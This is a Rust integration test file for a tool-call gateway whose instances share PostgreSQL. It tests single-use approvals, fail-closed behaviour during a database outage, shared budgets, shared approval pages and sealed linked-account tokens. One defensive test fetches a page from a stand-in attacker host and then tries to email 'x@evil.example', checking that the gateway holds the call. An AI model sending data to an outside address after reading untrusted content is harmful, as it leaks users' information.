//! Two gateway instances sharing PostgreSQL (`[store] url`): approvals
//! complete on either and count once, every call's row is in one place,
//! and a database outage fails calls closed until it returns.
//!
//! These need a PostgreSQL server: `cargo xtask scale-out` (part of
//! `cargo xtask ci`) starts one and runs them with `--include-ignored`.
// Tests fail loudly by design.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::{Map, json};
use toolgate_client::{CallEnd, CallOptions, CallRound, Client, RoundInput};
use toolgate_gateway::config::GatewayConfig;
use toolgate_gateway::store::pg::PgStore;
use toolgate_gateway::store::sqlite::Filter;
use toolgate_gateway::{Gateway, GatewayOptions};

use support::{args, downstream, serve, shop};

const NEEDS: &str = "needs PostgreSQL: run `cargo xtask scale-out`";

fn postgres() -> String {
    std::env::var("TOOLGATE_TEST_POSTGRES").expect(NEEDS)
}

/// `pg_ctl ACTION` on the test's server.
fn pg_ctl(action: &str) {
    let control = std::env::var("TOOLGATE_TEST_PG_CTL").expect(NEEDS);
    let status = std::process::Command::new("sh")
        .args(["-c", &format!("{control} {action} >/dev/null")])
        .status()
        .unwrap();
    assert!(status.success(), "pg_ctl {action}");
}

/// One instance in front of `upstream`, sharing `key_file` and PostgreSQL.
async fn instance(upstream: &str, key_file: &std::path::Path, policy: &str) -> Gateway {
    let toml = format!(
        "[servers.shop]\nurl = \"{upstream}\"\n[store]\nurl = \"{}\"\n[state]\nkey_file = {}\n{policy}",
        postgres(),
        support::toml_string(&key_file.display().to_string()),
    );
    let config = GatewayConfig::parse_toml(&toml, |_| None).unwrap();
    support::start(config, GatewayOptions::default())
        .await
        .unwrap()
}

fn text(r: &toolgate_server::protocol::types::CallToolResult) -> String {
    serde_json::to_value(&r.content).unwrap()[0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

async fn round(c: &Client, input: Option<RoundInput>) -> CallRound {
    c.call_tool_round(
        "shop.order",
        args(json!({"sku": "SKU-0042"})),
        input,
        &CallOptions::default(),
    )
    .await
    .unwrap()
}

#[tokio::test]
#[ignore = "needs PostgreSQL: run `cargo xtask scale-out`"]
async fn a_confirmation_started_on_one_instance_completes_on_the_other_and_counts_once() {
    let calls = Arc::new(AtomicUsize::new(0));
    let upstream = serve(shop(calls.clone(), "Orders an item.")).await;
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("state.key");
    std::fs::write(&key, "f".repeat(64)).unwrap();
    let policy = "[policy]\ndefault = \"confirm\"\n";
    let a = instance(&upstream, &key, policy).await;
    let b = instance(&upstream, &key, policy).await;
    let (ca, cb) = (downstream(&a).await, downstream(&b).await);

    let (requests, state) = match round(&ca, None).await {
        CallRound::InputRequired {
            input_requests,
            request_state,
        } => (input_requests, request_state.unwrap()),
        other => panic!("not asked: {other:?}"),
    };
    let approved = || {
        let mut responses = Map::new();
        for key in requests.keys() {
            responses.insert(
                key.clone(),
                json!({"action": "accept", "content": {"approve": true}}),
            );
        }
        Some(RoundInput {
            input_responses: responses,
            request_state: Some(state.clone()),
        })
    };
    // The approved round sent eight times at once, half to each instance:
    // PostgreSQL lets exactly one through.
    let mut racing = tokio::task::JoinSet::new();
    for i in 0..8 {
        let c = if i % 2 == 0 { ca.clone() } else { cb.clone() };
        let input = approved();
        racing.spawn(async move { round(&c, input).await });
    }
    let mut ordered = 0;
    while let Some(done) = racing.join_next().await {
        match done.unwrap() {
            CallRound::Complete(CallEnd::Result(r)) if r.is_error.is_none() => {
                assert!(text(&r).contains("ordered SKU-0042"), "{}", text(&r));
                ordered += 1;
            }
            CallRound::Complete(CallEnd::Result(r)) => {
                assert!(text(&r).contains("already answered"), "{}", text(&r));
            }
            other => panic!("asked again: {other:?}"),
        }
    }
    assert_eq!(ordered, 1);
    assert_eq!(calls.load(Ordering::SeqCst), 1, "the approval counted once");

    // Every instance's rows are in the one store.
    let store = PgStore::connect(&postgres(), false).await.unwrap();
    let rows = store
        .query(&Filter {
            tool: Some("shop.order".into()),
            ..Filter::default()
        })
        .await
        .unwrap();
    let last: Vec<(&str, Option<&str>)> = rows
        .iter()
        .rev()
        .take(9)
        .map(|r| (r.status.as_str(), r.confirmation.as_deref()))
        .collect();
    assert_eq!(
        last.last(),
        Some(&("input_required", Some("asked"))),
        "{rows:?}"
    );
    let count = |status: &str| last.iter().filter(|(s, _)| *s == status).count();
    assert_eq!((count("ok"), count("replayed")), (1, 7), "{rows:?}");
    assert!(last.contains(&("ok", Some("approved"))), "{rows:?}");
    a.stop();
    b.stop();
}

#[tokio::test]
#[ignore = "needs PostgreSQL: run `cargo xtask scale-out`"]
async fn calls_fail_closed_while_postgres_is_down_and_resume_when_it_returns() {
    let calls = Arc::new(AtomicUsize::new(0));
    let upstream = serve(shop(calls.clone(), "Orders an item.")).await;
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("state.key");
    std::fs::write(&key, "e".repeat(64)).unwrap();
    let gateway = instance(&upstream, &key, "[policy]\ndefault = \"allow\"\n").await;
    let c = downstream(&gateway).await;
    let ok = |r: CallRound| match r {
        CallRound::Complete(CallEnd::Result(r)) => r,
        other => panic!("{other:?}"),
    };
    assert_eq!(ok(round(&c, None).await).is_error, None);

    pg_ctl("stop");
    let withheld = ok(round(&c, None).await);
    assert_eq!(withheld.is_error, Some(true));
    assert!(
        text(&withheld).contains("could not be recorded"),
        "{}",
        text(&withheld)
    );
    // Other requests are still answered meanwhile.
    assert!(c.list_tools().await.is_ok());

    pg_ctl("start");
    assert_eq!(ok(round(&c, None).await).is_error, None, "service resumed");
    gateway.stop();
}

#[tokio::test]
#[ignore = "needs PostgreSQL: run `cargo xtask scale-out`"]
async fn instances_starting_together_migrate_the_schema_once() {
    let url = postgres();
    let mut starts = tokio::task::JoinSet::new();
    for _ in 0..4 {
        let url = url.clone();
        starts.spawn(async move { PgStore::connect(&url, false).await.map(|_| ()) });
    }
    while let Some(started) = starts.join_next().await {
        started.unwrap().unwrap();
    }
    let bad = PgStore::connect("postgres://toolgate:pw@127.0.0.1:1/none", false)
        .await
        .err()
        .unwrap();
    assert!(
        matches!(bad, toolgate_gateway::StoreError::Postgres { .. }),
        "{bad:?}"
    );
    // The driver's error is kept as the cause, and the password is never said.
    let said = toolgate_protocol::error::with_causes(&bad);
    assert!(std::error::Error::source(&bad).is_some(), "{said}");
    assert!(
        said.contains("unavailable") && !said.contains(":pw@"),
        "{said}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
#[ignore = "needs PostgreSQL: run `cargo xtask scale-out`"]
async fn two_instances_share_one_budget_and_calls_at_once_never_overspend_it() {
    let calls = support::Reached::default();
    let (gate, open) = tokio::sync::watch::channel(false);
    let upstream = serve(support::gated(calls.clone(), open)).await;
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("state.key");
    std::fs::write(&key, "f".repeat(64)).unwrap();
    let budget = format!(
        "[policy]\ndefault = \"allow\"\n[[budget]]\ntools = [\"shop.*\"]\nname = \"orders-{}\"\ncost = 1\ntotal = {{ amount = 10, per = \"day\" }}\n",
        std::process::id()
    );
    // The instances' upstream is named `shop` (see `instance`).
    let a = instance(&upstream, &key, &budget).await;
    let b = instance(&upstream, &key, &budget).await;
    let (ca, cb) = (downstream(&a).await, downstream(&b).await);
    // Thirty calls at once, half to each instance: exactly ten reach the
    // upstream, though each instance alone would have room for them.
    let answers = support::at_once(&[&ca, &cb], "shop.pass", 30, &calls, &gate).await;
    assert_eq!(calls.count(), 10);
    let sent = answers.iter().filter(|(ok, _)| *ok).count();
    assert_eq!(sent, 10);
    for (_, text) in answers.iter().filter(|(ok, _)| !*ok) {
        assert!(
            text.contains("is spent: 10 of 10 credits per day for all callers together"),
            "{text}"
        );
    }
    // Settled on both: ten spent, nothing held.
    use toolgate_gateway::store::ledger::Ledger as _;
    let store = PgStore::connect(&postgres(), false).await.unwrap();
    let balances = store.balances().await.unwrap();
    let ours = balances
        .iter()
        .find(|b| b.key.budget == format!("orders-{}", std::process::id()))
        .unwrap();
    assert_eq!((ours.spent, ours.reserved), (10.0, 0.0));
    a.stop();
    b.stop();
}

/// A client that cannot show a form, through `gateway`: its person
/// approves on the approval page.
async fn formless(gateway: &Gateway) -> Client {
    use toolgate_client::transport::http::{HttpOptions, HttpTransport};
    Client::builder("formless", "1")
        .timeout(std::time::Duration::from_secs(10))
        .build(HttpTransport::new(serve(gateway.server()).await, HttpOptions::default()).unwrap())
}

#[tokio::test]
#[ignore = "needs PostgreSQL: run `cargo xtask scale-out`"]
async fn two_instances_show_the_same_approvals_and_calls_and_one_approval_lets_one_call_through() {
    let calls = Arc::new(AtomicUsize::new(0));
    let upstream = serve(shop(calls.clone(), "Orders an item.")).await;
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("state.key");
    std::fs::write(&key, "e".repeat(64)).unwrap();
    // A tool of its own, so rows and approvals of other tests do not mix.
    let policy = "[policy]\ndefault = \"allow\"\n[[policy.rules]]\ntools = [\"shop.greet\"]\naction = \"confirm\"\n[approval]\npage = true\n[console]\nlisten = \"127.0.0.1:0\"\n";
    let a = instance(&upstream, &key, policy).await;
    let b = instance(&upstream, &key, policy).await;
    let (ca, cb) = (formless(&a).await, formless(&b).await);
    let greet = async |c: &Client| support::outcome_of(c, "shop.greet", json!({})).await;

    // Asked through A; B's page shows it.
    let (ok, asked) = greet(&ca).await;
    assert!(!ok, "{asked}");
    let id = asked
        .rsplit("/approvals/")
        .next()
        .unwrap()
        .trim()
        .to_owned();
    let b_base = b
        .console_url()
        .unwrap()
        .trim_end_matches("/console")
        .to_owned();
    let cookie = support::log_in(&b.approval_login().unwrap()).await;
    let (status, page) = support::http(
        "GET",
        &format!("{b_base}/approvals"),
        &[("Cookie", &cookie)],
        None,
    )
    .await;
    assert_eq!(status, 200, "{page}");
    assert!(page.contains(&format!("id=\"approve-{id}\"")), "{page}");

    // Approved on B.
    let token = support::page_token(&format!("{b_base}/approvals/{id}"), &cookie).await;
    let origin = support::origin_of(&b_base);
    let (status, said) = support::http(
        "POST",
        &format!("{b_base}/approvals/{id}"),
        &[("Cookie", &cookie), ("Origin", &origin)],
        Some(&format!("token={token}&decision=approve")),
    )
    .await;
    assert_eq!(status, 303, "{said}");

    // Retried on both at once: exactly one goes through.
    let (ra, rb) = tokio::join!(greet(&ca), greet(&cb));
    let through = [&ra, &rb].iter().filter(|(ok, _)| *ok).count();
    assert_eq!(through, 1, "{ra:?} {rb:?}");
    let (_, other) = if ra.0 { rb } else { ra };
    assert!(other.contains("needs a person's approval"), "{other}");

    // B's console follows A's calls: they are in the one store.
    let (_, calls_page) = support::http(
        "GET",
        &format!("{b_base}/console/calls?tool=shop.greet&since=10m"),
        &[("Cookie", &cookie)],
        None,
    )
    .await;
    assert!(calls_page.contains("<td>shop.greet</td>"), "{calls_page}");
    assert!(
        calls_page.contains("<td>approved</td><td>ok</td>"),
        "{calls_page}"
    );
    a.stop();
    b.stop();
}

#[tokio::test]
#[ignore = "needs PostgreSQL: run `cargo xtask scale-out`"]
async fn what_entered_a_flow_on_one_instance_holds_a_call_on_the_other() {
    let ran = support::flows::Ran::default();
    let mut servers = String::new();
    for (name, url) in support::flows::upstreams(&ran).await {
        servers.push_str(&format!("[servers.{name}]\nurl = \"{url}\"\n"));
    }
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("state.key");
    std::fs::write(&key, "f".repeat(64)).unwrap();
    let start = || async {
        let toml = format!(
            "{servers}[store]\nurl = \"{}\"\n[state]\nkey_file = {}\n[policy]\ndefault = \"allow\"\n[flows]\nkey = \"auto\"\n",
            postgres(),
            support::toml_string(&key.display().to_string()),
        );
        let config = GatewayConfig::parse_toml(&toml, |_| None).unwrap();
        support::start(config, GatewayOptions::default())
            .await
            .unwrap()
    };
    let (a, b) = (start().await, start().await);
    // A trace of its own, so earlier runs on this database do not count.
    let trace = format!("{:032x}", u128::from(std::process::id()) * 7919 + 1);
    let options = || CallOptions {
        trace: toolgate_protocol::trace::TraceContext::parse_traceparent(&format!(
            "00-{trace}-00f067aa0ba902b7-01"
        )),
        ..CallOptions::default()
    };
    let on_a = formless(&a).await;
    on_a.call_tool(
        "web.fetch_page",
        args(json!({"url": "https://evil.example/a"})),
        &options(),
    )
    .await
    .unwrap();
    ran.lock().clear();
    let on_b = formless(&b).await;
    let held = match on_b
        .call_tool(
            "mail.send_email",
            args(json!({"to": "x@evil.example", "subject": "s", "body": "b"})),
            &options(),
        )
        .await
    {
        Err(toolgate_client::ClientError::Tool { result, .. }) => text(&result),
        other => panic!("{other:?}"),
    };
    assert!(held.contains("web.fetch_page at "), "{held}");
    assert!(ran.lock().is_empty(), "{:?}", ran.lock());
    a.stop();
    b.stop();
}

/// People's linked accounts kept in PostgreSQL: what one instance linked
/// (sealed under the shared state key) the other reads; a refresh keeps
/// when it was linked; each sees only whose it is; unlinked is gone for
/// both.
#[tokio::test]
#[ignore = "needs PostgreSQL: run `cargo xtask scale-out`"]
async fn linked_accounts_are_shared_by_instances_and_sealed() {
    use toolgate_gateway::call::linked::{Held, Linking, unix_now};
    use toolgate_gateway::store::accounts::AccountStore;
    use toolgate_gateway::store::state_key::StateSecret;
    let one: Arc<dyn AccountStore> = Arc::new(PgStore::connect(&postgres(), false).await.unwrap());
    let two: Arc<dyn AccountStore> = Arc::new(PgStore::connect(&postgres(), false).await.unwrap());
    let secret = StateSecret::from_text(&"p".repeat(40)).unwrap();
    let a = Linking::new(&secret, one.clone(), "http://127.0.0.1:8790");
    let b = Linking::new(&secret, two.clone(), "http://127.0.0.1:8790");
    let subject = format!("pg-alice-{}", unix_now());
    let held = |token: &str| Held {
        access_token: token.into(),
        refresh_token: Some("refresh".into()),
        expires_at: Some(unix_now() + 600),
        scope: None,
    };
    a.save(&subject, "crm", &held("first")).await.unwrap();
    let row = two
        .account(subject.clone(), "crm".into())
        .await
        .unwrap()
        .unwrap();
    assert!(
        !row.sealed.windows(5).any(|w| w == b"first"),
        "sealed at rest"
    );
    let seen = b.load(&subject, "crm").await.unwrap().unwrap().unwrap();
    assert_eq!(seen.access_token, "first");
    b.save(&subject, "crm", &held("second")).await.unwrap();
    let again = two
        .account(subject.clone(), "crm".into())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        again.linked_ms, row.linked_ms,
        "a refresh keeps when it was linked"
    );
    assert_eq!(
        a.load(&subject, "crm")
            .await
            .unwrap()
            .unwrap()
            .unwrap()
            .access_token,
        "second"
    );
    let listed = one.accounts_of(subject.clone()).await.unwrap();
    assert_eq!(listed.len(), 1);
    assert!(
        one.accounts_of("pg-nobody".into())
            .await
            .unwrap()
            .is_empty()
    );
    assert!(a.unlink(&subject, "crm").await.unwrap());
    assert!(b.load(&subject, "crm").await.unwrap().is_none());
}
